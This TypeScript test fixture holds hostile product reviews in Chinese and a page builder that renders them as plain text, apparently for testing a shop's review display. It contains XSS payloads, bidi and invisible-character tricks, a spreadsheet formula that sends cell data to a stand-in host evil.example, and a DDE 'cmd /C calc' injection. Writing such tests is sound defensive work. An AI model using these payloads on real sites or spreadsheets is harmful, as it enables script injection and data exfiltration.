// Reviews that try to do harm: markup, scripts, reversed and invisible text, formulas, broken Unicode, and sheer length.

export const flag = 'huipingWasHit';

const strike = `globalThis.${flag}=1`;

/** By name, so that a failure says which one it was. */
export const hostile: Record<string, string> = {
  image: `<img src=x onerror="${strike}"> 用了两天就坏了，客服不理人，退钱`,
  script: `<script>${strike}</script><svg onload="${strike}"> 漏电，差点出事`,
  attribute: `" autofocus onfocus="${strike}" x=" 衣服开线了，太差`,
  address: `javascript:${strike} <a href="javascript:${strike}">退款点这里</a> 假货`,
  template: '${alert(1)} {{constructor.constructor("return 1")()}} 质量很差',
  reversed: '\u202E很差的东西\u202C 不要买 \u2066坏了\u2069 \u202D\u202E',
  invisible: '退\u200B款\u200D吧\u2060，\uFEFF垃\u00AD圾',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"退款") 收到就是坏的',
  plus: '+cmd|\' /C calc\'!A0 充不进电',
  tags: '</textarea></script></style>--> ]]> 烂东西',
  combining: `坏${'\u0301'.repeat(400)}了，没人管`,
  nul: '坏\u0000了\u0007\u001b[31m，退货',
  surrogate: '坏了\uD83D 一半的表情 \uDE00',
};

/** One review of a million characters. */
export function enormous(): string {
  return `从头说起，用了两天就坏了。${'客服让我再等等，等了又等，还是没有人管；'.repeat(60_000)}`.slice(0, 1_000_000);
}

/** A page of reviews as a shop without any framework shows them; the texts are put in as text, by the page itself. */
export function reviewPage(texts: readonly string[]): string {
  const list = JSON.stringify(texts).replaceAll('<', '\\u003c');
  return `<!doctype html><html lang="zh-CN"><head><meta charset="utf-8"><title>全部评价</title>
<style>body { font: 16px/1.6 sans-serif; } .words { max-height: 200px; overflow: auto; }</style></head><body><h1>商品评价</h1><ul id="reviews"></ul><script>
const rows = ${list}.map((text, i) => {
  const row = document.createElement('li');
  row.className = 'review';
  const part = (tag, name, words) => { const node = document.createElement(tag); node.className = name; node.textContent = words; return node; };
  const stars = part('span', 'stars', '★☆☆☆☆');
  stars.setAttribute('role', 'img');
  stars.setAttribute('aria-label', '1 星（满分 5 星）');
  const time = part('time', 'date', '2026-11-' + String(i % 20 + 1).padStart(2, '0'));
  time.setAttribute('datetime', time.textContent);
  row.append(part('span', 'buyer', '买家' + i), stars, time, part('p', 'words', text));
  return row;
});
document.getElementById('reviews').append(...rows);
</script></body></html>`;
}
